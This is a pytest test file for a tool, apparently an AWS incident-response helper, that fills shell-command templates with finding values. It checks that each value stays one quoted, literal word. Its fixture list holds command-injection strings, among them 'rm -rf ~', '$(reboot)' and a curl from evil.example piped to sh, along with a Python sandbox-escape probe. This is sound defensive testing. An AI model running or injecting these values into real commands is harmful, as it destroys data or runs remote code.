"""Response templates filled with attacker-controlled values: each value stays one literal shell word."""

from __future__ import annotations

import shlex

import pytest

from trailhunt.report.fill import fill

RESTART = "Restart logging: aws cloudtrail start-logging --name '{{ finding.trail }}'"
NASTY = [
    "org-trail",
    "a b",
    "x'; rm -rf ~ #",
    "$(reboot)",
    "`id`",
    '"; curl http://evil.example | sh; "',
    "back\\slash\\",
    "new\nline",
    "",
]


@pytest.mark.parametrize("value", NASTY)
def test_value_is_one_literal_word_in_the_command(value):
    filled = fill(RESTART, {"trail": value})
    assert filled.text == "Restart logging:"
    assert shlex.split(filled.command) == ["aws", "cloudtrail", "start-logging", "--name", value]


@pytest.mark.parametrize("value", NASTY)
def test_value_inside_a_longer_quoted_string_stays_literal(value):
    template = (
        "aws s3api delete-bucket-policy --bucket {{ finding.bucket }} "
        "--expected-bucket-owner \"{{ finding.account_id }}\" --query 'arn:aws:s3:::{{ finding.bucket }}/*'"
    )
    filled = fill(template, {"bucket": value, "account_id": "111122223333"})
    words = shlex.split(filled.command)
    assert words[4] == value
    assert words[6] == "111122223333"
    assert words[8] == f"arn:aws:s3:::{value}/*"


def test_double_quoted_context_cannot_expand_a_value():
    filled = fill(
        'aws logs describe-log-groups --log-group-name-prefix "/aws/{{ finding.group }}"', {"group": "$(id)"}
    )
    assert shlex.split(filled.command)[-1] == "/aws/$(id)"
    assert "'$(id)'" in filled.command  # single-quoted: no expansion by a real shell


def test_prose_apostrophes_do_not_confuse_the_command_quoting():
    filled = fill("Don't wait: aws iam delete-login-profile --user-name {{ finding.user }}", {"user": "a b"})
    assert filled.text == "Don't wait:"
    assert shlex.split(filled.command)[-1] == "a b"


def test_value_in_prose_is_quoted_too():
    filled = fill("Find who else used the key {{ finding.access_key_id }}", {"access_key_id": "AKIA X"})
    assert filled.text == "Find who else used the key 'AKIA X'"
    assert filled.command is None


def test_missing_or_null_values_become_placeholders():
    filled = fill(RESTART, {"trail": None})
    assert filled.command == "aws cloudtrail start-logging --name <trail>"
    assert filled.missing == ("<trail>",)
    assert fill(RESTART, {}).missing == ("<trail>",)


def test_filters_and_defaults_work_in_the_sandbox():
    filled = fill(
        "aws ec2 describe-snapshots --snapshot-ids {{ finding.snapshot_id | default('unknown') }}", {}
    )
    assert filled.command.endswith("--snapshot-ids unknown")


def test_the_sandbox_refuses_python_internals():
    filled = fill("aws sts get-caller-identity {{ finding.__class__.__mro__ }}", {"a": 1})
    assert filled.command == "aws sts get-caller-identity <__class__.__mro__>"
    assert filled.missing


def test_control_characters_are_flagged():
    filled = fill(RESTART, {"trail": "evil\x1b[31m"})
    assert "control or invisible" in (filled.warning or "")


def test_a_command_that_cannot_be_quoted_safely_is_left_for_a_person():
    template = "aws cloudtrail start-logging --name '{{ finding.trail }}"  # unbalanced quote in the template
    filled = fill(template, {"trail": "x"})
    assert "fill it in by hand" in (filled.warning or "")
    assert filled.missing == ("<trail>",)
    assert "x" not in filled.command.split()


def test_a_template_that_chains_commands_is_flagged():
    template = (
        "aws iam detach-user-policy --user-name {{ finding.user }} | aws iam detach-role-policy --role-name x"
    )
    assert "chains" in (fill(template, {"user": "a|b"}).warning or "")
    assert (
        fill("aws iam list-users --user-name {{ finding.user }}", {"user": "a|b; c && d > e"}).warning is None
    )


KEY_STEP = (
    "If unexpected, disable the key: aws iam update-access-key --access-key-id {{ finding.access_key_id }} "
    "--status Inactive --user-name <user>, or revoke the role's sessions"
)


def test_hand_placeholders_are_filled_from_the_principal_and_prose_leaves_the_command():
    values = {
        "access_key_id": "AKIAQ3EGRZ5PLW7TNVXK",
        "principal_arn": "arn:aws:iam::111122223333:user/svc-x",
    }
    filled = fill(KEY_STEP, values)
    assert shlex.split(filled.command) == [
        "aws", "iam", "update-access-key", "--access-key-id", "AKIAQ3EGRZ5PLW7TNVXK", "--status", "Inactive",
        "--user-name", "svc-x",
    ]  # fmt: skip
    assert filled.text == "If unexpected, disable the key (or revoke the role's sessions):"
    assert filled.warning is None and filled.missing == ()


def test_an_unknown_hand_placeholder_is_listed_and_is_not_a_redirection():
    session = {"access_key_id": "ASIAQ3EGRZ5PLW7TNVXK", "principal_arn": "arn:aws:sts::1:assumed-role/r/s"}
    filled = fill(KEY_STEP, session)
    assert filled.missing == ("<user>",) and filled.warning is None
    assert filled.command.endswith("--user-name <user>")


def test_then_aws_is_a_second_command_and_a_parenthesised_command_is_prose():
    two = fill("Revoke: aws kms list-grants --key-id '{{ finding.key_id }}' then aws kms revoke-grant --key-id '{{ finding.key_id }}' --grant-id <id>", {"key_id": "k 1"})  # fmt: skip
    first, second = two.command.splitlines()
    assert shlex.split(first) == ["aws", "kms", "list-grants", "--key-id", "k 1"]
    assert shlex.split(second)[:5] == ["aws", "kms", "revoke-grant", "--key-id", "k 1"]
    aside = fill(
        "Contain: deactivate key {{ finding.k }} (aws iam update-access-key --status Inactive)",
        {"k": "AKIA1"},
    )
    assert aside.command is None and "update-access-key" in aside.text
